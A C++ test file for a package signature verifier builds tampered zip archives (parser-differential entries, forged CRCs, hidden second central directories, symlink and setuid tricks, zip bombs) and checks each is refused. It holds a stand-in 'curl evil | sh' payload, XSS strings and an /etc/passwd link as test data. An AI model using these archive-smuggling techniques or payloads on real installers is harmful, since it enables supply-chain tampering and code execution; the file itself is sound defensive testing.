// Package archives that another reader would read differently from the extractor, archives
// that would fill the disk or stay behind in /tmp, and the archives real zip tools make.
//
// Each hostile archive starts from a validly signed package and changes its bytes; none may
// verify, none may leave anything in /tmp, and the forms that zip tools write must verify.

#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <functional>
#include <set>
#include <stdexcept>
#include <string>
#include <vector>

#include <boost/filesystem.hpp>
#include <gtest/gtest.h>

#include "KVBSignLib.h"
#include "child_process.h"
#include "cli_runner.h"
#include "expected_texts.h"
#include "leftover_check.h"
#include "package_builder.h"
#include "pipe_writer.h"
#include "reader_agreement.h"
#include "test_pki.h"
#include "zip_writer.h"

namespace {

namespace fs = boost::filesystem;
using kvtest::PackageBuilder;
using kvtest::SignedPackage;
using kvtest::ZipEntrySpec;
using kvtest::ZipSpec;

const char kEvil[] = "require('child_process').exec('curl evil | sh');\n";
const std::uint64_t kMegabyte = 1024 * 1024;

PackageBuilder basePackage() {
    PackageBuilder b;
    b.addFile("index.html", "<html><body>hello</body></html>\n")
        .addFile("lib/app.js", "console.log('app');\n")
        .addFile("README.txt", "A package.\n");
    return b;
}

ZipEntrySpec file(const std::string& name, const std::string& data) { return kvtest::zipFileEntry(name, data); }
ZipEntrySpec& entry(ZipSpec& spec, const std::string& name) { return kvtest::findEntry(spec, name); }

struct Workspace {
    kvtest::ScratchDir scratch;
    std::string pkgZip() const { return scratch.file("pkg.kvb"); }
    // The validly signed base package (or another), built beside the archive.
    ZipSpec signedSpec(const PackageBuilder& b = basePackage(), bool withDirectories = true) {
        const SignedPackage p = b.build(scratch.file("src"));
        ZipSpec spec;
        spec.entries = kvtest::zipEntriesOf(p.dir, withDirectories);
        return spec;
    }
    std::string write(const ZipSpec& spec) {
        kvtest::writeZipSpec(pkgZip(), spec);
        return pkgZip();
    }
};

struct Suite {
    kvtest::ScratchDir dir;
    std::string roots = dir.file("roots.pem");
    Suite() { kvtest::writePemBundle(roots, {kvtest::pki().root.cert.get()}); }
    kvtest::EnvList env() const {
        return {{"SSL_CERT_FILE", roots}, {"KVBSIGN_CRL_CACHE", dir.file("no-crl-cache.db")}, {"TZ", "UTC0"}};
    }
};
Suite& suite() {
    static Suite s;
    return s;
}

struct Row {
    const char* name;
    std::function<std::string(Workspace&)> make;  // the path to verify; empty: the row cannot run here
    int status;
    // Refused by the decoding of the entries' data, which runs while the extractor writes:
    // the extractor may have started, and must have been ended.
    bool refusedWhileExtracting = false;
};

// Runs every row through the built tool; checks its status, its message and that nothing is
// left in /tmp, the extractor included. A refused archive (20) must be refused before
// anything is extracted unless its data is what fails; an accepted one must give every reader
// the tree that the extractor made.
void runRows(const std::vector<Row>& rows) {
    for (const Row& row : rows) {
        SCOPED_TRACE(row.name);
        Workspace w;
        const std::string path = row.make(w);
        if (path.empty()) {
            std::printf("[ skipped  ] %s: the tool that makes it is missing\n", row.name);
            continue;
        }
        const kvtest::ExtractionWatch watch;
        kvtest::EnvList env = suite().env();
        for (const auto& e : watch.env()) env.push_back(e);
        const std::set<std::string> before = kvtest::kvbsignTempEntries();
        const kvtest::CliResult r = kvtest::runCli({"-verify", path, "-skipOnlineRevocationChecks"}, env, 120, w.scratch.path());
        std::printf("[ row      ] %-70s want %2d got %3d\n", row.name, row.status, r.exitCode);
        EXPECT_FALSE(r.timedOut);
        EXPECT_EQ(r.exitCode, row.status) << r.out << r.err;
        if (row.status == 20) {
            EXPECT_NE(r.err.find(kvtest::withoutLineEnd(kvtest::kMsg20)), std::string::npos) << r.err;
            if (!row.refusedWhileExtracting) {
                EXPECT_FALSE(watch.extracted()) << "refused only after extracting";
            }
        }
        EXPECT_TRUE(kvtest::processEnds(watch.extractor(), 10)) << "the extractor still runs";
        if (row.status == 0) {
            EXPECT_NE(r.out.find(kvtest::withoutLineEnd(kvtest::kMsg0)), std::string::npos) << r.out;
            EXPECT_TRUE(watch.extracted());
            EXPECT_EQ(kvtest::readerDifferences(path), "");
        }
        for (const std::string& name : kvtest::newTempEntries(before)) ADD_FAILURE() << "left behind: /tmp/" << name;
    }
}

// The signed files with a new index.html, and entries that hide the change from the extractor.
std::vector<Row> secondNames() {
    return {
        // The extractor takes the second name and writes the new index.html where the walk
        // leaves it out; other readers install it over the signed one.
        {"appended signed name with an excluded second name (__MACOSX)",
         [](Workspace& w) {
             ZipSpec spec = w.signedSpec();
             ZipEntrySpec e = file("index.html", kEvil);
             e.localExtra = e.centralExtra = kvtest::unicodePathExtra("index.html", "__MACOSX/index.html");
             spec.entries.push_back(e);
             return w.write(spec);
         },
         20},
        {"second names swap a signed file for a new one (Thumbs.db)",
         [](Workspace& w) {
             ZipSpec spec = w.signedSpec();
             ZipEntrySpec& genuine = entry(spec, "index.html");
             genuine.name = "x.html";
             genuine.localExtra = genuine.centralExtra = kvtest::unicodePathExtra("x.html", "index.html");
             ZipEntrySpec e = file("index.html", kEvil);
             e.localExtra = e.centralExtra = kvtest::unicodePathExtra("index.html", "Thumbs.db");
             spec.entries.push_back(e);
             return w.write(spec);
         },
         20},
        {"climbing header name with a harmless second name",
         [](Workspace& w) {
             ZipSpec spec = w.signedSpec();
             ZipEntrySpec e = file("../index.html", kEvil);
             e.localExtra = e.centralExtra = kvtest::unicodePathExtra("../index.html", "lib/Thumbs.db");
             spec.entries.push_back(e);
             return w.write(spec);
         },
         20},
    };
}

std::vector<Row> hiddenEntries() {
    std::vector<Row> rows = {
        // Invisible to the extractor, which reads the central directory; a reader that
        // streams from the front extracts it over the signed file.
        {"local entry for a signed name before an unchanged central directory",
         [](Workspace& w) {
             ZipSpec spec = w.signedSpec();
             spec.beforeCentral = kvtest::localEntryBytes(file("index.html", kEvil));
             return w.write(spec);
         },
         20},
        // The signed bytes decode as before; after the end of their deflate stream come a
        // descriptor and a whole local entry that a streaming reader installs over index.html.
        {"entries hidden after the end of a signed file's deflate stream",
         [](Workspace& w) {
             ZipSpec spec = w.signedSpec();
             ZipEntrySpec& e = entry(spec, "lib/app.js");
             const std::string genuine = kvtest::deflateRaw(e.data);
             e.dataDescriptor = true;
             e.rawData = genuine + "PK\x07\x08" + kvtest::le(kvtest::crc32Of(e.data), 4) +
                         kvtest::le(genuine.size(), 4) + kvtest::le(e.data.size(), 4) +
                         kvtest::localEntryBytes(file("index.html", kEvil));
             return w.write(spec);
         },
         20, true},
        // Other extractors make a directory of it: the signed file is gone.
        {"signed file stored with a directory's mode",
         [](Workspace& w) {
             ZipSpec spec = w.signedSpec();
             entry(spec, "index.html").unixMode = 040644;
             return w.write(spec);
         },
         20},
        {"gap between two entries",
         [](Workspace& w) {
             ZipSpec spec = w.signedSpec();
             spec.entries[2].before = std::string(64, '\0');
             return w.write(spec);
         },
         20},
        {"local CRC differs from the central record",
         [](Workspace& w) {
             ZipSpec spec = w.signedSpec();
             entry(spec, "lib/app.js").localCrc = 0x12345678;
             return w.write(spec);
         },
         20},
        {"encrypted entry",
         [](Workspace& w) {
             ZipSpec spec = w.signedSpec();
             entry(spec, "README.txt").extraFlags = 1;
             return w.write(spec);
         },
         20},
    };
    // The extractor drops the control character and the climb, so the signed README.txt
    // lands where it belongs and verifies; the stored name climbs out of any other
    // reader's target.
    for (const char* prefix : {"\n", "\t", "\r"}) {
        rows.push_back({prefix[0] == '\n' ? "signed file renamed with a line feed before ../"
                                          : prefix[0] == '\t' ? "signed file renamed with a tab before ../"
                                                              : "signed file renamed with a carriage return before ../",
                        [prefix](Workspace& w) {
                            ZipSpec spec = w.signedSpec();
                            entry(spec, "README.txt").name = std::string(prefix) + "../README.txt";
                            return w.write(spec);
                        },
                        20});
    }
    return rows;
}

// The four bytes that, appended to bytes whose CRC-32 is `crc`, make the CRC-32 `wanted`:
// CRC-32 is linear, so the register can be run backwards from the wanted value.
std::string crcForgingBytes(std::uint32_t crc, std::uint32_t wanted) {
    std::uint32_t state = ~wanted;
    for (int i = 0; i < 32; ++i) state = state & 0x80000000u ? ((state ^ 0xEDB88320u) << 1) | 1u : state << 1;
    return kvtest::le(state ^ ~crc, 4);
}

// A second central directory and a second zip64 end record inside the first record's
// extensible data. A reader that takes the zip64 record to be the 56 bytes before the
// locator reads the second directory, which finds index.html at a local entry hidden in the
// stored data of an entry below __MACOSX/.
std::string secondDirectoryInTheZip64Record(Workspace& w) {
    ZipSpec spec = w.signedSpec();
    spec.zip64End = true;
    ZipEntrySpec changed = entry(spec, "index.html");
    changed.data = kEvil;
    ZipEntrySpec hider = file("__MACOSX/._index.html", kvtest::localEntryBytes(changed));
    hider.method = 0;
    spec.entries.push_back(hider);
    const kvtest::ZipLayout first = kvtest::writeZipSpec(w.pkgZip(), spec);

    ZipSpec second = spec;
    second.entries.pop_back();
    for (std::size_t i = 0; i < second.entries.size(); ++i) second.entries[i].centralLocalOffset = first.entries[i].localOffset;
    entry(second, "index.html") = changed;
    entry(second, "index.html").centralLocalOffset = first.entries.back().dataOffset;
    const std::string scratch = w.scratch.file("second.zip");
    const kvtest::ZipLayout l = kvtest::writeZipSpec(scratch, second);
    const std::string directory = kvtest::readFile(scratch).substr(l.centralOffset, l.centralSize);
    const std::uint64_t count = second.entries.size();
    spec.zip64Extensible = directory + "PK\x06\x06" + kvtest::le(44, 8) + kvtest::le(3 << 8 | 45, 2) +
                           kvtest::le(45, 2) + kvtest::le(0, 8) + kvtest::le(count, 8) + kvtest::le(count, 8) +
                           kvtest::le(directory.size(), 8) + kvtest::le(first.zip64EndOffset + 56, 8);
    return w.write(spec);
}

// The stored lib/app.js ends in a descriptor without signature. A reader that streams the
// archive looks for a signed descriptor whose CRC and sizes match what it has read: one
// stands at the start of the next entry's data (an entry below __MACOSX/), followed by a
// local entry of a changed index.html, which that reader installs over the signed one.
std::string plantedBehindAnUnsignedDescriptor(Workspace& w) {
    ZipSpec spec = w.signedSpec();
    ZipEntrySpec& app = entry(spec, "lib/app.js");
    app.method = 0;
    app.dataDescriptor = true;
    app.descriptorSignature = false;
    const std::string unsignedDescriptor =
        kvtest::le(kvtest::crc32Of(app.data), 4) + kvtest::le(app.data.size(), 4) + kvtest::le(app.data.size(), 4);

    const std::string planted = kvtest::localEntryBytes(file("index.html", kEvil));
    const std::uint32_t carrierCrc = 0x5eed0001;  // chosen first, forged below
    ZipEntrySpec carrier = file("__MACOSX/lib/._app.js", std::string(16 + planted.size() + 4, '\0'));
    carrier.method = 0;
    carrier.localCrc = carrierCrc;
    const std::string carrierHeader = kvtest::localEntryBytes(carrier).substr(0, 30 + carrier.name.size());
    const std::string readSoFar = app.data + unsignedDescriptor + carrierHeader;
    std::string data = "PK\x07\x08" + kvtest::le(kvtest::crc32Of(readSoFar), 4) + kvtest::le(readSoFar.size(), 4) +
                       kvtest::le(readSoFar.size(), 4) + planted;
    data += crcForgingBytes(kvtest::crc32Of(data), carrierCrc);
    if (kvtest::crc32Of(data) != carrierCrc) throw std::runtime_error("CRC forging failed");
    carrier.data = data;
    carrier.localCrc.reset();
    spec.entries.push_back(carrier);  // right after lib/app.js, the last entry
    return w.write(spec);
}

// lib/app.js becomes a link whose target is text of the attacker's choosing; its signed
// bytes stand at that path, below __MACOSX/, which the walk leaves out. A reader that makes
// no links installs the text as lib/app.js.
std::string linkIntoAnExcludedPath(Workspace& w, std::uint8_t host, std::uint32_t mode) {
    ZipSpec spec = w.signedSpec();
    ZipEntrySpec& app = entry(spec, "lib/app.js");
    const std::string target = "../__MACOSX/<script>alert(1)</script>";
    spec.entries.push_back(file("__MACOSX/<script>alert(1)</script>", app.data));
    app.kind = ZipEntrySpec::Kind::Symlink;
    app.data = target;
    app.method = 0;
    app.hostSystem = host;
    app.unixMode = mode;
    return w.write(spec);
}

// The signed link lib/main.js -> app.js, its target changed to pass through a directory
// of markup that the archive adds, then back: on disk it still leads to app.js, while a
// reader that makes no links installs the markup as lib/main.js.
std::string linkThroughAnAddedName(Workspace& w, const std::string& directory, const std::string& target) {
    PackageBuilder b = basePackage();
    b.addSymlink("lib/main.js", "app.js", true, "console.log('app');\n");
    ZipSpec spec = w.signedSpec(b);
    entry(spec, "lib/main.js").data = target;
    ZipEntrySpec added;
    added.kind = ZipEntrySpec::Kind::Directory;
    added.name = directory;
    spec.entries.push_back(added);
    return w.write(spec);
}

// The signed package with an attributes extra field giving `mode` to the entry `name` in
// both headers; a new entry of that name holding `added` when it is given.
std::string withAttributesField(Workspace& w, const std::string& name, std::uint32_t mode,
                                const std::string& added = "") {
    ZipSpec spec = w.signedSpec();
    if (!added.empty()) spec.entries.push_back(file(name, added));
    ZipEntrySpec& e = entry(spec, name);
    e.localExtra = e.centralExtra = kvtest::attributesExtra(0x031E, mode << 16);
    return w.write(spec);
}

// Archives changed so that some reader installs what the signature does not cover, each
// refused before extraction.
TEST(ArchiveCli, ChangesThatOtherReadersInstallNeverPass) {
    runRows({
        {"second central directory in the zip64 end record's extensible data", secondDirectoryInTheZip64Record, 20},
        {"zip64 locator naming no disk",
         [](Workspace& w) {
             ZipSpec spec = w.signedSpec();
             spec.zip64End = true;
             const std::string zip = w.pkgZip();
             const kvtest::ZipLayout l = kvtest::writeZipSpec(zip, spec);
             kvtest::patchFileLe(zip, l.locatorOffset + 16, 0, 4);
             return zip;
         },
         20},
        {"entry planted behind a stored file's unsigned descriptor", plantedBehindAnUnsignedDescriptor, 20},
        {"signed file replaced by a link into __MACOSX/",
         [](Workspace& w) { return linkIntoAnExcludedPath(w, 3, 0120777); }, 20},
        {"signed file replaced by a link made on an MS-DOS host",
         [](Workspace& w) { return linkIntoAnExcludedPath(w, 0, 0120644); }, 20},
        {"signed link's target through an added directory of markup",
         [](Workspace& w) {
             return linkThroughAnAddedName(w, "lib/<svg onload=alert(1)>/", "<svg onload=alert(1)>/../app.js");
         },
         20},
        {"signed link's target through markup below __MACOSX/",
         [](Workspace& w) {
             return linkThroughAnAddedName(w, "__MACOSX/<svg onload=alert(1)>/",
                                           "../__MACOSX/<svg onload=alert(1)>/../../lib/app.js");
         },
         20},
        // A field that some readers take the kind and mode from (bsdtar, from the file and
        // from a pipe): a link whose target is the page's text, a link out of the package, a
        // set-uid file, while the listing and the extractor see plain files.
        {"signed file made a link by an attributes extra field",
         [](Workspace& w) { return withAttributesField(w, "index.html", 0120777); }, 20},
        {"link out of the package below __MACOSX/ made by an attributes extra field",
         [](Workspace& w) { return withAttributesField(w, "__MACOSX/evil", 0120777, "../../../../../etc/passwd"); },
         20},
        {"signed file made set-uid by an attributes extra field",
         [](Workspace& w) { return withAttributesField(w, "lib/app.js", 0104755); }, 20},
        // Given "." bsdtar writes "./" names, which other readers take differently.
        {"bsdtar given \".\"",
         [](Workspace& w) -> std::string {
             if (access("/usr/bin/bsdtar", X_OK) != 0) return "";
             const SignedPackage p = basePackage().build(w.scratch.file("src"));
             const kvtest::CliResult r =
                 kvtest::runProgram("/usr/bin/bsdtar", {"--format", "zip", "-cf", w.pkgZip(), "."}, {}, 60, p.dir);
             if (r.exitCode != 0) throw std::runtime_error("bsdtar failed: " + r.err);
             return w.pkgZip();
         },
         20},
    });
}

TEST(ArchiveCli, SecondNamesNeverPass) { runRows(secondNames()); }
TEST(ArchiveCli, EntriesOnlySomeReadersSeeNeverPass) { runRows(hiddenEntries()); }

// An entry that declares 1,000 bytes and inflates to 200 MB: the extraction ends at the file
// size limit instead of filling /tmp.
TEST(ArchiveCli, EntriesThatOutgrowTheirDeclaredSizeEndTheExtraction) {
    runRows({
        // Each may inflate as far as the largest declared size under the file size limit
        // alone; the decoding beside the extractor ends it at the first that passes its
        // declared size.
        {"small entries inflating to the size of the largest",
         [](Workspace& w) {
             ZipSpec spec = w.signedSpec();
             for (int i = 0; i < 5; ++i) {
                 ZipEntrySpec bomb;
                 bomb.name = "media/blob" + std::to_string(i) + ".bin";
                 bomb.zeros = 20 * kMegabyte;
                 bomb.localSize = bomb.centralSize = 1;
                 spec.entries.push_back(bomb);
             }
             ZipEntrySpec honest;
             honest.name = "media/large.bin";
             honest.zeros = 20 * kMegabyte;
             spec.entries.push_back(honest);
             return w.write(spec);
         },
         20, true},
        {"entry declaring 1,000 bytes that inflates to 200 MB",
         [](Workspace& w) {
             ZipSpec spec = w.signedSpec();
             ZipEntrySpec bomb;
             bomb.name = "media/blob.bin";
             bomb.zeros = 200 * kMegabyte;
             bomb.localSize = bomb.centralSize = 1000;
             spec.entries.push_back(bomb);
             return w.write(spec);
         },
         20, true},
    });
}

// The archives that zip tools write, with every form the reader accepts.
TEST(ArchiveCli, ArchivesOfCommonToolsVerify) {
    // The signed package, with links to a signed file and to another link unless asked.
    auto package = [](Workspace& w, bool links) {
        PackageBuilder b = basePackage();
        b.addFile("lib/caf\xc3\xa9.js", "// a UTF-8 name\n");
        if (links)
            b.addSymlink("lib/main.js", "app.js", true, "console.log('app');\n")
                .addSymlink("lib/alias.js", "main.js", true, "console.log('app');\n");
        return b.build(w.scratch.file("src"));
    };
    // The tool gets its options, the archive ("-" to write to a pipe), then every top-level
    // name, "mimetype" first.
    enum class Output { File, Pipe };
    auto tool = [package](const std::string& program, std::vector<std::string> options, Output output = Output::File,
                          bool links = true) {
        return [=](Workspace& w) -> std::string {
            if (access(program.c_str(), X_OK) != 0) return "";
            const SignedPackage p = package(w, links);
            std::vector<std::string> args = {program};
            args.insert(args.end(), options.begin(), options.end());
            args.push_back(output == Output::File ? w.pkgZip() : "-");
            for (const char* name : {"mimetype", "META-INF", "README.txt", "index.html", "lib"}) args.push_back(name);
            // To a pipe when asked, so that the tool cannot seek back in its output.
            const std::string script = output == Output::File
                                           ? "exec \"$@\""
                                           : "{ \"$@\"; echo $? > \"$0.status\"; } | cat > \"$0\"; exit $(cat \"$0.status\")";
            args.insert(args.begin(), {"-c", script, w.pkgZip()});
            const kvtest::CliResult r = kvtest::runProgram("/bin/sh", args, {}, 60, p.dir);
            if (r.exitCode != 0) throw std::runtime_error(program + " failed: " + r.err);
            return w.pkgZip();
        };
    };
    auto written = [package](std::function<void(ZipSpec&)> edit, bool withDirectories = true) {
        return [=](Workspace& w) {
            const SignedPackage p = package(w, true);
            ZipSpec spec;
            spec.entries = kvtest::zipEntriesOf(p.dir, withDirectories);
            edit(spec);
            return w.write(spec);
        };
    };
    auto stored = [](const ZipEntrySpec& e) { return e.method.value_or(e.kind == ZipEntrySpec::Kind::File ? 8 : 0) == 0; };
    runRows({
        {"zip tool", tool("/usr/bin/zip", {"-q", "-r", "-y", "-X"}), 0},
        {"zip tool, stored", tool("/usr/bin/zip", {"-q", "-r", "-y", "-X", "-0"}), 0},
        {"zip tool with zip64 fields", tool("/usr/bin/zip", {"-q", "-r", "-y", "-fz"}), 0},
        // Written to a pipe, entries get data descriptors; links cannot be kept there.
        {"zip tool to a pipe", tool("/usr/bin/zip", {"-q", "-r"}, Output::Pipe, false), 0},
        {"zip tool to a pipe, stored", tool("/usr/bin/zip", {"-q", "-r", "-0"}, Output::Pipe, false), 0},
        {"bsdtar (data descriptors)", tool("/usr/bin/bsdtar", {"--format", "zip", "-cf"}), 0},
        // Written to a pipe, the archive is padded with zero bytes to a whole block.
        {"bsdtar to a pipe", tool("/usr/bin/bsdtar", {"--format", "zip", "-cf"}, Output::Pipe), 0},
        {"descriptors with signature",
         written([](ZipSpec& s) {
             for (ZipEntrySpec& e : s.entries) e.dataDescriptor = true;
         }),
         0},
        {"descriptors with signature, all stored",
         written([](ZipSpec& s) {
             for (ZipEntrySpec& e : s.entries) {
                 e.dataDescriptor = true;
                 e.method = 0;
             }
         }),
         0},
        {"descriptors without signature on deflated entries",
         written([stored](ZipSpec& s) {
             for (ZipEntrySpec& e : s.entries) {
                 e.dataDescriptor = true;
                 e.descriptorSignature = stored(e);
             }
         }),
         0},
        {"no directory entries", written([](ZipSpec&) {}, false), 0},
        {"UTF-8 name with its Unicode path field",
         written([](ZipSpec& s) {
             ZipEntrySpec& e = entry(s, "lib/caf\xc3\xa9.js");
             e.localExtra = e.centralExtra = kvtest::unicodePathExtra(e.name, e.name);
         }),
         0},
        {"zip64 fields and end record",
         written([](ZipSpec& s) {
             for (ZipEntrySpec& e : s.entries) e.zip64 = true;
             s.zip64End = true;
         }),
         0},
        {"zero bytes after the end record", written([](ZipSpec& s) { s.afterEnd = std::string(9000, '\0'); }), 0},
        {"zero bytes after a zip64 end record and a comment",
         written([](ZipSpec& s) {
             s.zip64End = true;
             s.comment = "padded";
             s.afterEnd = std::string(512, '\0');
         }),
         0},
        {"archive comment", written([](ZipSpec& s) { s.comment = "PK\x05\x06 is not the end"; }), 0},
        {"70,000 directory entries (zip64 end record)",
         written([](ZipSpec& s) {
             for (int i = 0; i < 70000; ++i) {
                 ZipEntrySpec d;
                 d.kind = ZipEntrySpec::Kind::Directory;
                 d.name = "assets/" + std::to_string(i) + "/";
                 s.entries.push_back(d);
             }
         }),
         0},
    });
}

// Options for the zip tools in the user's environment must not change the extraction.
TEST(ArchiveCli, ZipToolOptionsInTheEnvironmentChangeNothing) {
    Workspace w;
    const std::string zip = w.write(w.signedSpec());
    kvtest::EnvList env = suite().env();
    env.push_back({"UNZIP", "-j"});      // would drop every directory
    env.push_back({"UNZIPOPT", "-aa"});  // would rewrite line ends
    const kvtest::CliResult r = kvtest::runCli({"-verify", zip, "-skipOnlineRevocationChecks"}, env, 60,
                                               w.scratch.path());
    EXPECT_EQ(r.exitCode, 0) << r.err;
    EXPECT_EQ(kvtest::readerDifferences(zip), "");
}

// --- named pipes outside the package ---

// Links that lead to a pipe outside the package: the writer waiting on it would be released
// by whoever opens it to read. In an archive such a link is refused before extraction; in a
// directory package the document and the walk refuse it.
TEST(ArchiveCli, PipesOutsideThePackageAreNeverOpened) {
    struct Case {
        const char* entry;
        int directoryStatus;
    };
    for (const Case c : {Case{"META-INF/signatures.xml", 31}, Case{"mimetype", 50}}) {
        SCOPED_TRACE(c.entry);
        Workspace w;
        const std::string fifo = w.scratch.file("pipe");
        ASSERT_EQ(mkfifo(fifo.c_str(), 0666), 0);
        kvtest::BlockedPipeWriter writer(fifo);
        ASSERT_TRUE(writer.blockedAtStart());
        ZipSpec spec = w.signedSpec();
        ZipEntrySpec& linked = entry(spec, c.entry);
        linked.kind = ZipEntrySpec::Kind::Symlink;
        linked.data = fifo;
        linked.method.reset();
        const std::string zip = w.write(spec);
        const SignedPackage dir = basePackage().build(w.scratch.file("dir"));
        fs::remove(dir.dir + "/" + c.entry);
        fs::create_symlink(fifo, dir.dir + "/" + c.entry);
        for (const auto& run : {std::make_pair(zip, 20), std::make_pair(dir.dir, c.directoryStatus)}) {
            SCOPED_TRACE(run.first);
            const std::set<std::string> before = kvtest::kvbsignTempEntries();
            const kvtest::CliResult r =
                kvtest::runCli({"-verify", run.first, "-skipOnlineRevocationChecks"}, suite().env(), 30, w.scratch.path());
            EXPECT_EQ(r.exitCode, run.second) << r.err;
            EXPECT_TRUE(writer.stillBlocked()) << "the pipe was opened";
            for (const std::string& name : kvtest::newTempEntries(before)) ADD_FAILURE() << "left behind: /tmp/" << name;
        }
    }
}

// --- runs that need another user or another /tmp: in a child of this process ---

// A copy of the archive in a directory every user can read, removed at the end.
class SharedCopy {
public:
    explicit SharedCopy(const std::string& zip) {
        char tmpl[] = "/tmp/kvbshared-XXXXXX";
        if (mkdtemp(tmpl) == nullptr) throw std::runtime_error("mkdtemp failed");
        dir_ = tmpl;
        chmod(dir_.c_str(), 0755);
        path_ = dir_ + "/pkg.kvb";
        kvtest::writeFile(path_, kvtest::readFile(zip));
        chmod(path_.c_str(), 0644);
    }
    ~SharedCopy() {
        boost::system::error_code ec;
        fs::remove_all(dir_, ec);
    }
    const std::string& path() const { return path_; }

private:
    std::string dir_;
    std::string path_;
};

// Directories stored read-only or closed: whoever runs the tool, the extracted tree is
// judged and then removed completely.
TEST(ArchiveCli, ClosedDirectoriesNeitherHideFilesNorStayBehind) {
    if (!kvtest::canDropPrivileges()) GTEST_SKIP() << "needs root to run the tool as another user";
    struct Case {
        const char* name;
        std::vector<std::pair<std::string, std::uint32_t>> modes;
        int status;
    };
    const Case cases[] = {
        {"lib/ stored 0555", {{"lib/", 040555}}, 0},
        {"lib/ stored 0000", {{"lib/", 040000}}, 0},
        {"META-INF/ stored 0500, lib/ 0000", {{"META-INF/", 040500}, {"lib/", 040000}}, 0},
        // The control: the same closed directory with a changed file below it still fails.
        {"lib/ stored 0000 over a changed file", {{"lib/", 040000}}, 50},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.name);
        Workspace w;
        ZipSpec spec = w.signedSpec();
        for (const auto& m : c.modes) entry(spec, m.first).unixMode = m.second;
        if (c.status == 50) entry(spec, "lib/app.js").data = kEvil;
        const SharedCopy copy(w.write(spec));
        const std::set<std::string> before = kvtest::kvbsignTempEntries();
        const int status = kvtest::runInChild([&] {
            if (chdir("/") != 0 || !kvtest::becomeNobody()) return 99;
            return KVBSign_verify(copy.path().c_str(), nullptr, 0, nullptr, true);
        });
        EXPECT_EQ(status, c.status);
        if (c.status == 0) {
            EXPECT_EQ(kvtest::readerDifferences(copy.path()), "");
        }
        for (const std::string& name : kvtest::newTempEntries(before)) {
            ADD_FAILURE() << "left behind: /tmp/" << name;
            boost::system::error_code ec;
            fs::remove_all(fs::path("/tmp") / name, ec);
        }
    }
}

// Declared contents larger than the free space are refused before anything is written.
TEST(ArchiveCli, DeclaredContentsMustFitTheTemporaryFileSystem) {
    PackageBuilder b = basePackage();
    b.addFile("media/blob.bin", std::string(16 * kMegabyte, '\0'));
    Workspace w;
    const SignedPackage p = b.build(w.scratch.file("src"));
    p.zip(w.pkgZip());
    const std::string zip = kvtest::readFile(w.pkgZip());
    struct Case {
        int megabytes;
        int status;
    };
    for (const Case c : {Case{8, 20}, Case{64, 0}}) {
        SCOPED_TRACE(c.megabytes);
        const int status = kvtest::runInChild([&] {
            if (!kvtest::mountSmallTmp(c.megabytes)) return 98;
            kvtest::writeFile("/tmp/pkg.kvb", zip);
            const int result = KVBSign_verify("/tmp/pkg.kvb", nullptr, 0, nullptr, true);
            fs::remove("/tmp/pkg.kvb");
            // Nothing may be left on the small file system either.
            return fs::is_empty("/tmp") ? result : 97;
        });
        if (status == 98) GTEST_SKIP() << "cannot make a mount namespace";
        EXPECT_EQ(status, c.status);
    }
    EXPECT_EQ(kvtest::readerDifferences(w.pkgZip()), "");
}

}  // namespace
